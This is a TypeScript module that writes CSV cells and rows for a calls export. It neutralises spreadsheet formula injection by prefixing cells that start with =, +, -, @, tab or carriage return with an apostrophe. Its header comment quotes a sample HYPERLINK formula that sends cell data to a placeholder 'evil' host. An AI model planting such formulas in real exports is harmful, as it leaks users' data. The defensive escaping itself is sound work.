// CSV cells and rows (RFC 4180) for the calls export, safe to open in a spreadsheet.
//
// CSV injection (also "formula injection"): a spreadsheet opening the file runs a cell that starts with
// = + - @ (or a tab / carriage return before one) as a formula, e.g. a caller's spoken "summary" of
// =HYPERLINK("http://evil/?"&A1) leaking data, or DDE payloads running commands. Such cells get a
// leading apostrophe so they are shown as text (OWASP's recommendation). Numbers are written by us,
// never from user text, and are not escaped: a negative amount stays a number. A phone number such as
// +15551234567 is left as it is too: a cell of only a sign, digits and phone punctuation evaluates to a
// number at worst and cannot call a function or another cell.
export type CsvValue = string | number | null;

const FORMULA_START = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^[+-]?[\d ().-]+$/;
const NEEDS_QUOTES = /[",\r\n]/;

export function csvCell(value: CsvValue): string {
  if (value === null) return "";
  if (typeof value === "number") return String(value);
  const text = FORMULA_START.test(value) && !PLAIN_NUMBER.test(value) ? `'${value}` : value;
  return NEEDS_QUOTES.test(text) ? `"${text.replaceAll('"', '""')}"` : text;
}

/** One line, CRLF-terminated as RFC 4180 has it. */
export function csvRow(values: CsvValue[]): string {
  return `${values.map(csvCell).join(",")}\r\n`;
}
